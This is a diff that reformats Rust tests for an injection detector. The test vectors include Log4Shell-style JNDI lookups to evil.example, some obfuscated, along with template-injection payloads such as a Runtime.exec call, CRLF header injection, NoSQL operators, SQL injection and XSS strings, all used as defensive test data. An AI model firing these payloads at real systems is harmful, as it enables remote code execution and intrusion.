@@ -191,13 +191,25 @@ fn crlf_template_nosql_attacks() {
         ("/%0d%0aLocation: http://evil.example", Kind::Crlf),
         ("x\r\nX-Injected: 1", Kind::Crlf),
         ("${jndi:ldap://evil.example/a}", Kind::Template),
-        ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", Kind::Template),
-        ("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", Kind::Template),
+        (
+            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
+            Kind::Template,
+        ),
+        (
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
+            Kind::Template,
+        ),
         ("{{7*7}}", Kind::Template),
-        ("{{ config.__class__.__init__.__globals__ }}", Kind::Template),
+        (
+            "{{ config.__class__.__init__.__globals__ }}",
+            Kind::Template,
+        ),
         ("<%= 7 * 7 %>", Kind::Template),
         ("#{7*7}", Kind::Template),
-        ("${T(java.lang.Runtime).getRuntime().exec('id')}", Kind::Template),
+        (
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            Kind::Template,
+        ),
         ("username[$ne]=x", Kind::Nosql),
         ("{\"$where\": \"this.a == 1\"}", Kind::Nosql),
     ];
@@ -298,7 +310,9 @@ fn only_enabled_classes_fire() {
     assert!(!only_xss.is_enabled(Kind::Sqli));
     assert_eq!(only_xss.inspect("' OR 1=1--"), None);
     assert_eq!(
-        only_xss.inspect("<script>alert(1)</script>").map(|f| f.kind),
+        only_xss
+            .inspect("<script>alert(1)</script>")
+            .map(|f| f.kind),
         Some(Kind::Xss)
     );
     let none = Detectors::only(&[]);
